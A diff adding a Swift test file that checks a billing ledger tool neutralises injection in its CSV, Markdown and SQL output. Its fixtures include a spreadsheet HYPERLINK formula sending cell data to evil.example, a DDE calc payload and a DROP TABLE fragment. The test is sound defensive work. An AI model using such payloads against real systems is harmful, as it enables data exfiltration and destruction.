@@ -1,0 +1,91 @@
+import Foundation
+import Testing
+
+/// Org ids, prompts, request ids and idempotency keys crafted as spreadsheet
+/// formulas, Markdown table breakers and SQL fragments come out inert: CSV
+/// cells are prefixed with `'`, Markdown tables keep their column count, and
+/// the SQL is only ever data.
+struct InjectionTests {
+    static let hostileOrgs = [
+        #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "+1", "-2", "@SUM(A1:A9)",
+        "org|pipe|inj", "org\ninj newline", "'; DROP TABLE response_records; --", "\tinj tab", "\rinj cr",
+        #"org_inj **bold** <b>x</b> `code` \| escaped"#,
+    ]
+    static let hostilePrompt = "=cmd|' /C calc'!A0 | pipe\nnewline"
+
+    /// A billed generation and a 402 event per hostile org, with hostile prompt, keys and request ids.
+    static func input() throws -> String {
+        func json(_ value: String) throws -> String { String(decoding: try JSONEncoder().encode(value), as: UTF8.self) }
+        return try hostileOrgs.enumerated().flatMap { index, org in [
+            #"{"timestamp":"2026-10-05T09:00:\#(String(format: "%02d", index))Z","orgId":\#(try json(org)),"endpoint":"/v1/generate-image","httpStatus":200,"request":{"prompt":\#(try json(hostilePrompt))},"response":{"success":true,"generationId":"gen_inj_\#(index)"}}"#,
+            #"{"timestamp":"2026-10-05T10:00:\#(String(format: "%02d", index))Z","orgId":\#(try json(org)),"endpoint":"/v2/cinematic-image","httpStatus":402,"idempotencyKey":"=1+2|k\#(index)","response":{"success":false,"code":"insufficient_balance","requestId":"@req|\#(index)"}}"#,
+        ] }.joined(separator: "\n") + "\n"
+    }
+
+    /// How a hostile value must appear in a CSV cell.
+    static func inert(_ value: String) -> String { OutputShapes.isFormula(value) ? "'" + value : value }
+
+    @Test func hostileValuesAreInertInEveryReportFile() throws {
+        let scratch = try Scratch("injection")
+        let ledger = scratch.path("ledger.sqlite")
+        let ingest = try LedgerBinary.run(["ingest", "--db", ledger, try scratch.write("hostile.jsonl", try Self.input())])
+        try #require(ingest.status == 0, "\(ingest.stderr)")
+        let pricing = try scratch.write("pricing.yaml", "currency: USD\ndefaultPlan: standard\nplans:\n  standard:\n    v1:\n      unitPrice: 0.04\n    v2:\n      unitPrice: 0.10\n")
+        let report = try LedgerBinary.run(["report", "--db", ledger, "--month", "2026-10", "--pricing", pricing, "--out", scratch.path("reports")])
+        try #require(report.status == 0, "\(report.stderr)")
+        let folder = scratch.path("reports/2026-10")
+
+        for (file, orgColumn) in [("usage.csv", 1), ("invoice_lines.csv", 1), ("flags_402.csv", 1)] {
+            let records = OutputShapes.csvRecords(try String(contentsOfFile: "\(folder)/\(file)", encoding: .utf8))
+            let header = try #require(records.first)
+            #expect(records.dropFirst().allSatisfy { $0.count == header.count }, "\(file): a row changed its column count")
+            #expect(records.flatMap { $0 }.filter(OutputShapes.isFormula).isEmpty, "\(file): a cell would be evaluated")
+            let orgs = Set(records.dropFirst().map { $0[orgColumn] })
+            #expect(orgs.isSuperset(of: Self.hostileOrgs.map(Self.inert)), "\(file): org ids \(orgs)")
+        }
+        let flags = OutputShapes.csvRecords(try String(contentsOfFile: "\(folder)/flags_402.csv", encoding: .utf8))
+        #expect(flags.dropFirst().allSatisfy { $0[4].hasPrefix("'@req|") && $0[5].hasPrefix("'=1+2|k") }, "request ids and keys are inert")
+
+        let markdown = try String(contentsOfFile: "\(folder)/report.md", encoding: .utf8)
+        expectTablesKeepTheirShape(markdown, "report.md")
+        #expect(!markdown.contains("\norg|pipe"), "no hostile value starts a line")
+        #expect(!markdown.contains("\ninj newline"), "a line break inside a value does not break the report")
+
+        let stillThere = try LedgerBinary.run(["sql", "--db", ledger, "--format", "csv", "SELECT count(*) FROM response_records"])
+        #expect(stillThere.stdout.contains("20"), "the SQL fragment was data, not SQL")
+    }
+
+    @Test(arguments: ["csv", "markdown"])
+    func hostileValuesAreInertInSQLOutput(format: String) throws {
+        let scratch = try Scratch("injection-sql")
+        let ledger = scratch.path("ledger.sqlite")
+        try #require(try LedgerBinary.run(["ingest", "--db", ledger, try scratch.write("hostile.jsonl", try Self.input())]).status == 0)
+        let result = try LedgerBinary.run(["sql", "--db", ledger, "--format", format,
+                                           "SELECT org_id, prompt, idempotency_key, request_id FROM response_records ORDER BY id"])
+        try #require(result.status == 0, "\(result.stderr)")
+        if format == "csv" {
+            let records = OutputShapes.csvRecords(result.stdout)
+            #expect(records.count == 1 + 2 * Self.hostileOrgs.count)
+            #expect(records.allSatisfy { $0.count == 4 })
+            #expect(records.flatMap { $0 }.filter(OutputShapes.isFormula).isEmpty)
+            #expect(Set(records.dropFirst().map { $0[0] }) == Set(Self.hostileOrgs.map(Self.inert)))
+            #expect(records.dropFirst().contains { $0[1] == Self.inert(Self.hostilePrompt) })
+        } else {
+            expectTablesKeepTheirShape(result.stdout, "sql --format markdown")
+            let tables = OutputShapes.markdownTables(result.stdout)
+            #expect(tables.count == 1)
+            #expect(tables.first?.count == 2 + 2 * Self.hostileOrgs.count, "one line per row")
+        }
+    }
+
+    private func expectTablesKeepTheirShape(_ markdown: String, _ name: String) {
+        let tables = OutputShapes.markdownTables(markdown)
+        #expect(!tables.isEmpty)
+        for table in tables {
+            let columns = OutputShapes.markdownCells(table[0]).count
+            for row in table {
+                #expect(OutputShapes.markdownCells(row).count == columns, "\(name): \(row)")
+            }
+        }
+    }
+}
